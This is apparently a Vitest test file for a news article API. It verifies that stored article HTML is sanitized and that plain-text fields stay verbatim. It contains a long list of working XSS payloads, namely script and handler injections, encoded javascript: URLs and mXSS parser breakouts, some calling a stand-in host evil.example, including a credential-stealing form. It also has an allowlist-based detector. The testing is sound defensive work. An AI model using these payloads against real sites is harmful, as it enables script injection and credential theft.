import { type DefaultTreeAdapterTypes, parse, parseFragment, serialize } from 'parse5';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { admin, createTestApp, type TestApp } from './helpers/app.js';
import { addCaption, captionInput, readArticle } from './helpers/content.js';
import { createArticle, ifMatch } from './helpers/factories.js';

let t: TestApp;
beforeAll(async () => {
  t = await createTestApp();
});
afterAll(async () => {
  await t?.close();
});

/** Classic payloads, OWASP XSS filter evasion cheat-sheet style. */
const PAYLOADS: Record<string, string> = {
  'script tag': '<script>alert(1)</script>',
  'mixed-case script': '<ScRiPt>alert(1)</sCrIpT>',
  'unclosed script': '<script>alert(1)',
  'script with src': '<script src="https://evil.example/x.js"></script>',
  'img onerror': '<img src=x onerror=alert(1)>',
  'unclosed img onerror': '<img src=x onerror=alert(1)',
  'svg onload': '<svg onload=alert(1)><circle r="1"/></svg>',
  'svg script': '<svg><script>alert(1)</script></svg>',
  'body onload': '<body onload=alert(1)>',
  'handler on allowed tag': '<p onclick="alert(1)" onmouseover=alert(1)>text</p>',
  'javascript: href': '<a href="javascript:alert(1)">x</a>',
  'javascript: with leading space': '<a href=" javascript:alert(1)">x</a>',
  'javascript: with tab inside': '<a href="jav&#x09;ascript:alert(1)">x</a>',
  'entity-encoded javascript:':
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  'hex entities without semicolons': '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>',
  'named entity colon': '<a href="javascript&colon;alert(1)">x</a>',
  'upper-case scheme': '<a href="JAVASCRIPT:alert(1)">x</a>',
  'vbscript: href': '<a href="vbscript:msgbox(1)">x</a>',
  'data: href': '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  'data: img src': '<img src="data:image/svg+xml,<svg onload=alert(1)>" alt="x">',
  'javascript: img src': '<img src="javascript:alert(1)" alt="x">',
  'javascript: cite': '<blockquote cite="javascript:alert(1)">q</blockquote>',
  'style attribute': '<p style="background:url(javascript:alert(1))">styled</p>',
  'style element': '<style>body { background: url("javascript:alert(1)") }</style>',
  iframe: '<iframe src="javascript:alert(1)"></iframe>',
  'iframe srcdoc': '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  object: '<object data="javascript:alert(1)"></object>',
  embed: '<embed src="https://evil.example/x.swf">',
  'math namespace':
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  'svg style': '<svg><style><img src=x onerror=alert(1)></style></svg>',
  'math href': '<math href="javascript:alert(1)">click</math>',
  base: '<base href="https://evil.example/">',
  'meta refresh': '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  'form action':
    '<form action="https://evil.example/steal"><input name="password"><button formaction="javascript:alert(1)">go</button></form>',
  'noscript breakout': '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  'xmp breakout': '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  'noembed breakout': '<noembed><p title="</noembed><img src=x onerror=alert(1)>"></noembed>',
  'textarea breakout': '<textarea><img src=x onerror=alert(1)></textarea>',
  'comment breakout': '<!--><img src=x onerror=alert(1)>-->',
  cdata: '<![CDATA[<img src=x onerror=alert(1)>]]>',
  'template in select': '<select><template><style><img src=x onerror=alert(1)></style></template></select>',
  'attribute quote breakout': '<img src="https://images.example.com/a.jpg" alt="`\'\\"><script>alert(1)</script>">',
  'link stylesheet': '<link rel="stylesheet" href="https://evil.example/x.css">',
  'protocol-relative img': '<img src="//evil.example/track.gif" alt="">',
  'details ontoggle': '<details open ontoggle=alert(1)>',
  'video poster': '<video poster="javascript:alert(1)"><source onerror=alert(1)></video>',
};

const ALLOWED_ATTRIBUTES: Record<string, string[]> = {
  a: ['href', 'title', 'rel'],
  img: ['src', 'alt', 'title', 'width', 'height'],
  blockquote: ['cite'],
  q: ['cite'],
  abbr: ['title'],
  time: ['datetime'],
  th: ['scope', 'colspan', 'rowspan'],
  td: ['colspan', 'rowspan'],
};
const ALLOWED_TAGS = new Set([
  'p',
  'br',
  'h2',
  'h3',
  'h4',
  'a',
  'em',
  'i',
  'strong',
  'b',
  'u',
  's',
  'sub',
  'sup',
  'small',
  'mark',
  'blockquote',
  'q',
  'cite',
  'ul',
  'ol',
  'li',
  'figure',
  'figcaption',
  'img',
  'hr',
  'abbr',
  'time',
  'code',
  'pre',
  'table',
  'thead',
  'tbody',
  'tr',
  'th',
  'td',
  'caption',
  'span',
]);
const URL_ATTRIBUTES = new Set(['href', 'src', 'cite']);

type Node = DefaultTreeAdapterTypes.Node;

/**
 * What a browser would build from the stored body (parse5 follows the HTML standard), checked
 * against the allowlist: any element, attribute or URL outside it is reported.
 */
function unsafeParts(html: string): string[] {
  const found: string[] = [];
  const body = parse(`<!DOCTYPE html><html><head></head><body>${html}</body></html>`).childNodes.at(
    -1,
  ) as DefaultTreeAdapterTypes.Element;
  const visit = (node: Node) => {
    if (!('tagName' in node)) return;
    const inWrapper = ['html', 'head', 'body'].includes(node.tagName);
    if (!inWrapper && (!ALLOWED_TAGS.has(node.tagName) || node.namespaceURI !== 'http://www.w3.org/1999/xhtml'))
      found.push(`<${node.tagName}>`);
    if (inWrapper && node.attrs.length) found.push(`<${node.tagName} ${node.attrs.map((a) => a.name).join(' ')}>`);
    for (const { name, value } of inWrapper ? [] : node.attrs) {
      if (!(ALLOWED_ATTRIBUTES[node.tagName] ?? []).includes(name)) found.push(`${node.tagName}[${name}]`);
      const url = value.replace(/[\u0000-\u0020]/g, '').toLowerCase();
      if (URL_ATTRIBUTES.has(name) && /^(javascript|vbscript|data):|^\/\//.test(url))
        found.push(`${node.tagName}[${name}=${value}]`);
    }
    for (const child of node.childNodes) visit(child);
  };
  visit(body);
  for (const child of body.parentNode!.childNodes) if (child !== body) visit(child);
  return found;
}

const canonical = (html: string) => serialize(parseFragment(html));

describe('the unsafeParts oracle', () => {
  it('flags what it should, so a passing test means something', () => {
    expect(unsafeParts('<p onclick="x">a</p><script></script><a href=" JaVa&#x09;script:x">b</a><svg></svg>')).toEqual([
      'p[onclick]',
      '<script>',
      'a[href= JaVa\tscript:x]',
      '<svg>',
    ]);
    expect(unsafeParts('<p>fine <a href="https://example.com/">link</a></p>')).toEqual([]);
  });
});

describe.each(Object.entries(PAYLOADS))('body with %s', (_name, payload) => {
  const body = `<p>Lead paragraph.</p>${payload}<p>Last paragraph.</p>`;

  it('is stored without anything executable, on create', async () => {
    const article = await createArticle(t, { body });
    const stored = (await readArticle(t, article.id)).body as string;
    expect(unsafeParts(stored)).toEqual([]);
    expect(stored).not.toMatch(/<script/i);
    expect(stored).toContain('<p>Lead paragraph.</p>');
  });

  it('is stored without anything executable, on update', async () => {
    const article = await createArticle(t);
    const response = await t.inject({
      method: 'PATCH',
      url: `/v1/articles/${article.id}`,
      headers: ifMatch(article.etag),
      payload: { body },
    });
    expect(response.statusCode, response.body).toBe(200);
    const row = await t.app.database.prisma.article.findUniqueOrThrow({ where: { id: article.id } });
    expect(unsafeParts(row.body)).toEqual([]);
    expect(response.json().body).toBe(row.body);
  });
});

describe('news markup', () => {
  const news =
    '<h2>What happened</h2><p>Talks ended with <em>no deal</em> and <strong>no date</strong>, ' +
    'said <a href="https://news.example.com/geneva?day=7&amp;page=2" title="Earlier story">our earlier report</a>.</p>' +
    '<blockquote cite="https://news.example.com/quote"><p>We will meet again.</p></blockquote>' +
    '<h3>Reactions</h3><ul><li>Capital A</li><li>Capital B</li></ul><h4>Timeline</h4><ol><li>Friday</li><li>Sunday</li></ol>' +
    '<figure><img src="https://images.example.com/geneva/hall.jpg" alt="Delegates leave the hall"><figcaption>Geneva, Friday</figcaption></figure>' +
    '<p>Relative <a href="/v1/articles/slug/earlier">links</a> and <a href="mailto:desk@news.example.com">mail</a> stay.</p>';

  it('survives intact', async () => {
    const article = await createArticle(t, { body: news });
    const stored = (await readArticle(t, article.id)).body as string;
    expect(canonical(stored)).toBe(canonical(news));
    expect(unsafeParts(stored)).toEqual([]);
  });
});

describe('plain-text fields', () => {
  const hostile = '<script>alert("x")</script> & <b>bold</b> &amp; &lt;p&gt; "quoted" \'single\' javascript:alert(1)';

  it('are stored and returned verbatim: not interpreted, not escaped', async () => {
    const fields = {
      headline: `Headline ${hostile}`,
      summary: `Summary ${hostile}`,
      byline: `By ${hostile}`.slice(0, 300),
      source: `Src ${hostile}`,
      section: `Sec ${hostile}`,
    };
    const article = await createArticle(t, fields);
    expect(article).toMatchObject(fields);
    expect(await readArticle(t, article.id)).toMatchObject(fields);
    const row = await t.app.database.prisma.article.findUniqueOrThrow({ where: { id: article.id } });
    expect(row).toMatchObject(fields);
  });

  it('include caption text, credit and alt text', async () => {
    const article = await createArticle(t);
    const fields = {
      text: `Caption ${hostile}`,
      credit: `Credit ${hostile}`,
      altText: `Alt ${hostile}`,
      location: `Place ${hostile}`,
    };
    const caption = await addCaption(t, article, captionInput(fields));
    expect(caption).toMatchObject(fields);
    const read = await t.inject({
      method: 'GET',
      url: `/v1/articles/${article.id}/captions/${caption.id}`,
      headers: admin,
    });
    expect(read.json()).toMatchObject(fields);
    expect(read.headers['content-type']).toMatch(/^application\/json/);
  });
});
